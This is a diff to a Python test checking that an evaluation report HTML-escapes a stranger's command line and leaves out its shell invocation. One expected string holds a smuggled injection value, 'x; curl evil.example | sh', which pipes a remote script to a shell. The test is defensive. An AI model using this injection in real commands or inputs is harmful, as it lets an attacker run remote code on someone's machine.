@@ -117,7 +117,7 @@ def test_a_strangers_command_stays_out_of_the_report(tmp_path: Path) -> None:
     assert evaluate.main([*words, "--out", str(tmp_path / "out")]) == 0
     page = (tmp_path / "out" / "report.html").read_text()
     assert "sh -c" not in page
-    assert "python train.py --scenario &#39;x; curl evil.example | sh&#39; --agent dqn" in page
+    assert "python train.py --scenario &#39;x; curl evil.example | sh&#39; --sim-step 1.0 --agent dqn" in page
     assert "\u202e" not in page
     assert "x" * 100 not in page
     assert 'id="fig-learning"' not in page
